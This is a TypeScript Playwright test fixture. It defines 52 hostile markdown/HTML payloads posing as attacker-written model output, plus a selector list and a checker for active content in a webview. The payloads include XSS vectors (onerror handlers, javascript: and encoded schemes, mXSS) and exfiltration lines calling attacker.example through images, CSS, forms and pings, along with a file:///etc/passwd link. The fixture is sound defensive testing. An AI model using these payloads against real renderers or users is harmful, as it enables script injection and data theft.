import type { Page } from 'playwright-core';
/**
 * Model output written by an attacker. Each payload tries to run `pwn(id)` (or alert), to navigate, or to
 * make the page contact attacker.example; the tests prove none of it happens. Ids are unique.
 */
export interface HostilePayload {
  id: number;
  name: string;
  markdown: string;
}

const ATTACKER = 'https://attacker.example';

const payloads: Array<[string, string]> = [
  ['script tag', '<script>pwn(1)</script>'],
  ['img onerror', '<img src=x onerror="pwn(2)">'],
  ['svg onload', '<svg onload="pwn(3)"></svg>'],
  ['script inside svg', '<svg><script>pwn(4)</script></svg>'],
  ['iframe javascript src', '<iframe src="javascript:pwn(5)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.pwn(6)</script>"></iframe>'],
  ['object data', '<object data="javascript:pwn(7)"></object>'],
  ['embed src', '<embed src="javascript:pwn(8)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:pwn(9)">'],
  ['css url() exfiltration in a style attribute', `<div style="background:url(${ATTACKER}/css?q=secret)">styled</div>`],
  ['markdown image exfiltration', `![x](${ATTACKER}/img?q=secret)`],
  ['reference-style image', `![ref][evil]\n\n[evil]: ${ATTACKER}/ref?q=secret`],
  ['javascript: link', '[click](javascript:pwn(13))'],
  ['mixed-case javascript: link', '[click](JaVaScRiPt:pwn(14))'],
  ['javascript: link in angle brackets with a space', '[click](<java script:pwn(15)>)'],
  ['entity-encoded javascript: link', '[click](java&#115;cript:pwn(16))'],
  ['entity-encoded first letter', '[click](&#106;avascript:pwn(17))'],
  ['percent-encoded newline in scheme', '[click](java%0ascript:pwn(18))'],
  ['data: html link', '[click](data:text/html;base64,PHNjcmlwdD5wd24oMTkpPC9zY3JpcHQ+)'],
  ['vbscript: link', '[click](vbscript:pwn(20))'],
  ['file: link', '[click](file:///etc/passwd)'],
  ['command: link', '[click](command:workbench.action.terminal.new)'],
  ['javascript: autolink', '<javascript:pwn(23)>'],
  ['https autolink to the attacker', `<${ATTACKER}/auto?q=secret>`],
  ['raw anchor with javascript:', '<a href="javascript:pwn(25)">raw</a>'],
  ['base href', `<base href="${ATTACKER}/">`],
  ['form action', `<form action="${ATTACKER}/steal"><button>go</button></form>`],
  ['template injection', "{{constructor.constructor('pwn(28)')()}} ${pwn(28)} <%= pwn(28) %>"],
  ['link title breaking out with double quotes', '[t](https://example.com "a\\" onmouseover=\\"pwn(29)")'],
  ['link title breaking out with single quotes', "[t](https://example.com 'x\\' onclick=pwn(30) ')"],
  ['escaped entities that decode to a tag', '&lt;img src=x onerror=pwn(31)&gt; &#60;script&#62;pwn(31)&#60;/script&#62;'],
  ['details ontoggle', '<details open ontoggle="pwn(32)">x</details>'],
  ['mXSS through math/style', '<math><mtext><table><mglyph><style><img src=x onerror=pwn(33)>'],
  ['noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=pwn(34)>">'],
  ['html inside a fenced code block', '```html\n<img src=x onerror=pwn(35)><script>pwn(35)</script>\n```'],
  ['fence info string breakout', '```"><img src=x onerror=pwn(36)>\ncode\n```'],
  ['stylesheet link', `<link rel="stylesheet" href="${ATTACKER}/x.css">`],
  ['style @import', `<style>@import url(${ATTACKER}/i.css);</style>`],
  ['video source onerror', '<video><source onerror="pwn(39)"></video>'],
  ['input autofocus onfocus', '<input autofocus onfocus="pwn(40)">'],
  ['link URL breaking out of the attribute', '[x](https://example.com/"><img src=x onerror=pwn(41)>)'],
  ['image alt breaking out of the attribute', `![x" onerror="pwn(42)](${ATTACKER}/a.png)`],
  ['html inside link text', '[<img src=x onerror=pwn(43)>](https://example.com)'],
  ['anchor ping', `<a href="${ATTACKER}" ping="${ATTACKER}/ping">x</a>`],
  ['svg xlink javascript:', '<svg><a xlink:href="javascript:pwn(45)"><text>x</text></a></svg>'],
  ['named-entity colon in scheme', '[x](javascript&colon;pwn(46))'],
  ['remote pixel', `<img src="${ATTACKER}/pixel.gif">`],
  ['image reference with a javascript: url', '![a][b]\n\n[b]: javascript:pwn(48)'],
  ['tab inside the scheme', '[x](java\tscript:pwn(49))'],
  ['image with data: svg', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3big1MCkiLz4=)'],
  ['srcset exfiltration', `<img srcset="${ATTACKER}/s.png 1x">`],
  ['link to the attacker wrapping an image', `[![i](${ATTACKER}/in.png)](${ATTACKER}/out)`],
];

export const HOSTILE_PAYLOADS: HostilePayload[] = payloads.map(([name, markdown], index) => ({ id: index + 1, name, markdown }));

/** Elements and attributes that must never appear in the light DOM of a webview after rendering model output. */
export const FORBIDDEN_SELECTOR = [
  'script:not([nonce])', 'img', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'base', 'meta', 'link', 'style',
  'video', 'audio', 'source', 'input', 'details', 'noscript', 'template',
  '[style]', '[src]', '[srcset]', '[srcdoc]', '[action]', '[formaction]', '[ping]', '[xlink\\:href]',
].join(', ');

/**
 * What rendered model output must never contain: elements matching FORBIDDEN_SELECTOR (their start, for the
 * message) and attributes that could act (`on*`, a real `href`, a `data-href` that is not http(s)).
 */
export async function activeContent(page: Page): Promise<{ elements: string[]; attributes: string[] }> {
  const elements = await page.evaluate((selector) => Array.from(document.querySelectorAll(`#root :is(${selector})`)).map((node) => node.outerHTML.slice(0, 120)), FORBIDDEN_SELECTOR);
  const attributes = await page.evaluate(() => Array.from(document.querySelectorAll('#root *')).flatMap((node) => Array.from(node.attributes)
    .filter((attribute) => /^on/i.test(attribute.name) || (attribute.name === 'href' && attribute.value !== '#') || (attribute.name === 'data-href' && !/^https?:\/\//i.test(attribute.value)))
    .map((attribute) => `${node.tagName} ${attribute.name}=${attribute.value}`)));
  return { elements, attributes };
}
